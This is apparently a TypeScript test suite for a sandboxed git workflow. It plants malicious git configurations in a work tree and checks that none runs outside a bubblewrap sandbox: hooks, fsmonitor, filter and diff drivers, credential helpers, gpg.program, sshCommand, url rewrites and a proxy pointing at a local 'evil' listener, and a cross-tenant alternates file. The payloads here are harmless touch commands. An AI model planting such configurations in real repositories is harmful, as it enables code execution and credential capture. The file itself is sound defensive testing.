import assert from 'node:assert/strict';
import { appendFileSync, chmodSync, mkdirSync, readdirSync, symlinkSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:net';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { test } from 'node:test';
import type { TestContext } from 'node:test';
import { runCommand } from '../lib/child-process.ts';
import type { CommandResult } from '../lib/child-process.ts';
import { Secret } from '../lib/secret.ts';
import { createRepository } from '../demo/git-server.ts';
import { gitByHand, testForge, testSignal } from '../../test/support/git-repositories.ts';
import { describeChanges } from './changes.ts';
import { resolveBranch } from './mirrors.ts';
import { pushBranch } from './push.ts';
import { receiveBundle } from './receive-bundle.ts';
import { checkoutCommand, commitCommand, readCommitExit, resultRef } from './sandbox-scripts.ts';
import type { SandboxGitCommand } from './sandbox-scripts.ts';
import { createTree } from './workspace.ts';

const token = 'tok_of_the_forge';
const credential = { kind: 'password' as const, username: 'slipway', password: new Secret(token) };
const author = { name: 'Slipway', email: 'slipway@example.com' };

/** Only /usr and the tree exist inside; the traps can still tell through `loot`, so that none goes unseen. */
function boxed(folder: string, command: SandboxGitCommand): { file: string; args: string[] } {
  const system = [
    '--ro-bind',
    '/usr',
    '/usr',
    ...['bin', 'sbin', 'lib', 'lib64'].flatMap((name) => ['--symlink', `usr/${name}`, `/${name}`]),
  ];
  const own = ['--bind', join(folder, 'tree'), '/workspace', '--bind', join(folder, 'loot'), '/loot'];
  const rest = [
    '--proc',
    '/proc',
    '--dev',
    '/dev',
    '--tmpfs',
    '/tmp',
    '--unshare-all',
    '--die-with-parent',
    '--',
  ];
  return { file: 'bwrap', args: [...system, ...own, ...rest, ...command.argv] };
}

async function inBox(folder: string, command: SandboxGitCommand, input = ''): Promise<CommandResult> {
  const env = { PATH: '/usr/local/bin:/usr/bin:/bin', ...command.env };
  const limits = { maxOutputBytes: 1e7, timeoutMs: 20_000, signal: testSignal() };
  return runCommand({ ...boxed(folder, command), env, cwd: '/', input, ...limits });
}

async function hasBox(folder: string): Promise<boolean> {
  mkdirSync(join(folder, 'tree'));
  mkdirSync(join(folder, 'loot'));
  const result = await inBox(folder, { argv: ['/bin/true'], env: {} }).catch(() => undefined);
  return result?.code === 0;
}

/** A prepared tree in a box, and the safe way out of it. */
async function prepared(t: TestContext) {
  const forge = await testForge(t, { server: { credentials: { password: token } } });
  const box = join(forge.folder, 'box');
  mkdirSync(box);
  if (!(await hasBox(box))) return undefined;
  const tree = join(box, 'tree');
  const { git } = forge;
  const remote = { url: forge.url, credential };
  const mirror = await forge.mirrors.refresh(remote, forge.canonical, testSignal());
  const { commit: base } = resolveBranch(mirror, undefined);
  const aside = join(box, 'made');
  await createTree({
    git,
    mirror,
    tree: aside,
    branch: 'work',
    commit: base,
    originUrl: forge.url,
    signal: testSignal(),
  });
  for (const name of readdirSync(aside)) await runHere(['mv', join(aside, name), tree]);
  assert.equal((await inBox(box, checkoutCommand('/workspace'))).code, 0);
  const wayOut = async () => {
    const made = await inBox(box, commitCommand({ tree: '/workspace', base, author }), 'Result\n');
    assert.equal(made.code, 0, made.stderr);
    const bundle = join(forge.folder, 'bundle');
    writeFileSync(bundle, made.stdout);
    const folder = join(forge.folder, 'clean');
    const signal = testSignal();
    const { commit } = await receiveBundle({ git, mirror, bundle, folder, ref: resultRef, base, signal });
    const changes = await describeChanges({ git, folder, base, commit, maxPatchBytes: 1e6, signal });
    const outcome = await pushBranch({
      git,
      folder,
      remote,
      commit,
      branch: 'result',
      expected: undefined,
      signal,
    });
    assert.deepEqual(outcome, { kind: 'pushed' });
    assert.equal(await gitByHand(forge.bare, 'rev-parse', 'result'), commit);
    return changes;
  };
  return { forge, box, tree, base, mirror, wayOut, loot: () => readdirSync(join(box, 'loot')) };
}

async function runHere([file, ...args]: [string, ...string[]]): Promise<void> {
  const limits = { maxOutputBytes: 1e6, timeoutMs: 9000, signal: testSignal() };
  const result = await runCommand({ file, args, env: { PATH: '/usr/bin:/bin' }, cwd: '/', ...limits });
  assert.equal(result.code, 0, result.stderr);
}

/** A host that only counts who comes to it, with what. */
async function evilHost(t: TestContext): Promise<{ url: string; heard: string[] }> {
  const heard: string[] = [];
  const server = createServer((socket) => {
    socket.on('error', () => undefined);
    socket.on('data', (data) => {
      heard.push(data.toString('latin1'));
      socket.destroy();
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  t.after(() => server.close());
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}/`, heard };
}

type Armed = NonNullable<Awaited<ReturnType<typeof prepared>>>;

/** Runs for whoever takes it up, inside (`/loot`) or, by its own path, on the server. */
function trap({ box }: Armed, name: string): string {
  const path = join(box, 'loot', name);
  return `sh -c 'touch /loot/${name} ${path}; cat' `;
}

const attacks: Readonly<Record<string, (armed: Armed, evil: string) => string>> = {
  'hooks of every name': (armed) => {
    const hooks = join(armed.tree, '.git/hooks');
    mkdirSync(hooks, { recursive: true });
    const names = [
      'pre-commit',
      'prepare-commit-msg',
      'commit-msg',
      'post-commit',
      'pre-push',
      'reference-transaction',
      'post-index-change',
      'post-checkout',
      'post-rewrite',
      'pre-auto-gc',
      'fsmonitor-watchman',
    ];
    for (const name of names) {
      writeFileSync(join(hooks, name), `#!/bin/sh\n${trap(armed, name)}\n`);
      chmodSync(join(hooks, name), 0o755);
    }
    return '[core]\n\thooksPath = .git/hooks\n';
  },
  'a rewritten address': (armed, evil) =>
    `[url "${evil}"]\n\tinsteadOf = ${armed.forge.server.url}/\n\tpushInsteadOf = ${armed.forge.server.url}/\n`,
  'a file system monitor': (armed) => `[core]\n\tfsmonitor = "${trap(armed, 'fsmonitor')}"\n`,
  'filters and diff drivers': (armed) => {
    writeFileSync(join(armed.tree, '.gitattributes'), '* filter=evil diff=evil merge=evil\n');
    const program = trap(armed, 'filter');
    return `[filter "evil"]\n\tclean = "${program}"\n\tsmudge = "${program}"\n\tprocess = "${program}"\n\trequired = true\n[diff "evil"]\n\ttextconv = "${program}"\n\tcommand = "${program}"\n[diff]\n\texternal = "${program}"\n`;
  },
  'a credential helper and a prompt': (armed) =>
    `[credential]\n\thelper = "!${trap(armed, 'helper')}"\n[core]\n\taskPass = "${trap(armed, 'askpass')}"\n`,
  'a proxy': (_armed, evil) =>
    `[http]\n\tproxy = ${evil}\n\tsslVerify = false\n[remote "origin"]\n\tproxy = ${evil}\n`,
  'a signing program': (armed) => {
    // This one is started without a shell.
    writeFileSync(join(armed.tree, '.git/sign'), `#!/bin/sh\n${trap(armed, 'gpg')}\n`, { mode: 0o755 });
    return '[commit]\n\tgpgSign = true\n[tag]\n\tgpgSign = true\n[push]\n\tgpgSign = true\n[gpg]\n\tprogram = ./.git/sign\n';
  },
  'other programs that git starts': (armed) => {
    const names = ['sshCommand', 'gitProxy', 'pager', 'editor', 'alternateRefsCommand'];
    const core = names.map((name) => `\t${name} = "${trap(armed, name)}"\n`).join('');
    return `[core]\n${core}[uploadpack]\n\tpackObjectsHook = "${trap(armed, 'pack')}"\n[alias]\n\tadd = "!${trap(armed, 'alias')}"\n`;
  },
};

/** What a server would do that runs git in the tree: the proof that a trap is one. */
async function naively(tree: string): Promise<void> {
  const script =
    'echo more >>README.md; git status; git add -A; git commit; git commit -m x; git diff HEAD~1; git push origin HEAD:refs/heads/naive';
  const env = { PATH: '/usr/local/bin:/usr/bin:/bin', HOME: '/nonexistent', GIT_TERMINAL_PROMPT: '0' };
  const limits = { maxOutputBytes: 1e6, timeoutMs: 20_000, signal: testSignal() };
  const person = {
    GIT_AUTHOR_NAME: 'A',
    GIT_AUTHOR_EMAIL: 'a@b',
    GIT_COMMITTER_NAME: 'A',
    GIT_COMMITTER_EMAIL: 'a@b',
  };
  await runCommand({ file: 'sh', args: ['-c', script], env: { ...env, ...person }, cwd: tree, ...limits });
}

for (const [name, arm] of Object.entries(attacks)) {
  test(`${name}, planted in a tree, runs nowhere and learns nothing; the result is pushed all the same`, async (t) => {
    const armed = await prepared(t);
    if (armed === undefined) return t.skip('bwrap cannot run here');
    const evil = await evilHost(t);
    appendFileSync(join(armed.tree, '.git/config'), arm(armed, evil.url));
    writeFileSync(join(armed.tree, 'README.md'), 'changed\n');
    const changes = await armed.wayOut();
    assert.ok(changes.files.some(({ path }) => path === 'README.md'));
    assert.deepEqual(armed.loot(), []);
    assert.deepEqual(evil.heard, []);
    await naively(armed.tree);
    assert.ok(armed.loot().length + evil.heard.length > 0, 'the trap springs for who is naive');
  });
}

test("objects borrowed from another tenant's mirror do not come out of the sandbox", async (t) => {
  const armed = await prepared(t);
  if (armed === undefined) return t.skip('bwrap cannot run here');
  const { forge, box, tree, base } = armed;
  const other = await createRepository(forge.root, 'other.git');
  const work = join(forge.folder, 'other');
  await gitByHand(forge.folder, 'clone', '--quiet', other, work);
  writeFileSync(join(work, 'secret'), 'of another tenant');
  await gitByHand(work, 'add', '-A');
  await gitByHand(work, 'commit', '--quiet', '-m', 'secret');
  const secret = await gitByHand(work, 'rev-parse', 'HEAD');
  writeFileSync(join(tree, '.git/objects/info/alternates'), `${join(work, '.git/objects')}\n`);
  mkdirSync(join(tree, '.git/refs/heads'), { recursive: true });
  writeFileSync(join(tree, '.git/refs/heads/work'), `${secret}\n`);
  const direct = await inBox(box, commitCommand({ tree: '/workspace', base, author }), 'x\n');
  assert.equal(readCommitExit(direct.code), 'broken');
  symlinkSync(join(work, 'secret'), join(tree, 'link'));
  writeFileSync(join(tree, '.git/refs/heads/work'), `${base}\n`);
  const changes = await armed.wayOut();
  assert.ok(!changes.patch.toString('utf8').includes('of another tenant'));
});

test('a bundle that claims the objects of the mirror does not make them a result', async (t) => {
  const forge = await testForge(t);
  const { git } = forge;
  await forge.commit({ 'hidden.txt': 'of another branch' }, 'hidden');
  const mirror = await forge.mirrors.refresh({ url: forge.url }, forge.canonical, testSignal());
  const base = await gitByHand(mirror.folder, 'commit-tree', '-m', 'unrelated base', 'main^{tree}');
  const bundle = join(forge.folder, 'bundle');
  writeFileSync(bundle, `# v2 git bundle\n${mirror.branches.get('hidden') ?? ''} ${resultRef}\n\nPACK`);
  const folder = join(forge.folder, 'clean');
  await assert.rejects(
    receiveBundle({ git, mirror, bundle, folder, ref: resultRef, base, signal: testSignal() }),
    {
      code: 'corrupt',
    },
  );
});
